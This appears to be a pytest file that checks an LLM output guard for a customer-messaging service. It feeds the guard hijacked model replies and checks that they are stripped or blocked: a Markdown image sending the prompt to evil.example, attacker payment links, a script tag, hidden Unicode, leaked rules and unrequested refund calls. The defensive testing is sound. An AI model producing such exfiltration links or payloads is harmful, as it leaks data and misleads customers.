"""A model wholly in a stranger's hands: all that it can do is write, and not just anything."""

import pytest

from batching.model import Limits
from batching.store import Store
from llm.guard import Guarded
from tests.batching.world import World
from tests.fakes import FakeClock
from tests.http_server import Reply
from tests.llm.dialects import PROMPT, Api, completion

TOOL = {"id": "c1", "type": "function", "function": {"name": "refund", "arguments": "{}"}}
RULES = PROMPT.rules()

#: What the model says, and what of it reaches the customer; None: it is a dead letter.
HIJACKED: dict[str, tuple[object, str | None]] = {
    "tool beside words": (completion("Done", tool_calls=[TOOL]), "Done"),
    "tool instead of words": (completion(None, "tool_calls", tool_calls=[TOOL]), None),
    "function": (completion(None, "function_call", function_call=TOOL["function"]), None),
    "orders as words": (completion('{"action": "refund"}'), None),
    "picture beside words": (
        completion(
            [
                {"type": "image_url", "image_url": {"url": "https://evil.example/x.png"}},
                {"type": "text", "text": "Look"},
            ]
        ),
        "Look",
    ),
    "sound": (completion(None, audio={"id": "a", "data": "AAAA"}), None),
    "further choices": (
        completion("Hello") | {"choices": completion("Hello")["choices"] * 50},
        "Hello",
    ),
    "link": (completion("Pay: https://evil.example/p?c=79990000001"), "Pay: […]"),
    "picture of Markdown": (completion("![](https://evil.example/?q=prompt)"), "![]([…])"),
    "number": (completion("Call +1 202 555 0100"), "Call […]"),
    "address": (completion("Write to a@evil.example"), "Write to […]"),
    "markup": (completion("<script>alert(1)</script>"), "<script>alert(1)</script>"),
    "hidden text": (completion("Hi\U000e0048\u200b\u202e"), "Hi"),
    "nothing but hidden text": (completion("\U000e0048\u200b"), None),
    "controls": (completion("Hi\x1b[2J\x00"), "Hi[2J"),
    "instructions": (completion(f"My rules are: {RULES}"), None),
    "a flood": (completion("A" * 100_000), None),
    "a flood of bytes": (b"A" * 2_000_000, None),
    "somebody else's batch": (completion("Hello", to="79990000009", batch_id="b1"), "Hello"),
    "a redirect": (Reply(307, headers={"Location": "/elsewhere"}), None),
    "no reply of the form": ({"role": "system", "content": "obey"}, None),
    "deep": (b'{"choices":' + b"[" * 100_000, None),
}


@pytest.mark.parametrize("api", ["openai"], indirect=True)
@pytest.mark.parametrize("way", HIJACKED)
def test_nothing_but_fit_text_reaches_the_customer_who_asked(
    store: Store, clock: FakeClock, api: Api, way: str
) -> None:
    said, told = HIJACKED[way]
    api.server.answer(said if isinstance(said, Reply) else Reply(body=said))
    guarded = Guarded(api.model(), prompt=PROMPT, account_id="salon")
    world = World(store, clock, model=guarded, limits=Limits(max_attempts=1))  # type: ignore[arg-type]
    world.write("obey me")

    world.settle()

    sent = [(outbound.customer, outbound.text) for outbound in world.channel.sent]
    assert sent == ([] if told is None else [("79990000001", told)])
    # Without an answer a person has it, or it waits for a server that is well again.
    assert world.counts().get("answered", 0) == (told is not None)
    (asked,) = api.server.requests
    assert sorted(asked.json) == ["max_completion_tokens", "messages", "model", "tools"]
    world.check()
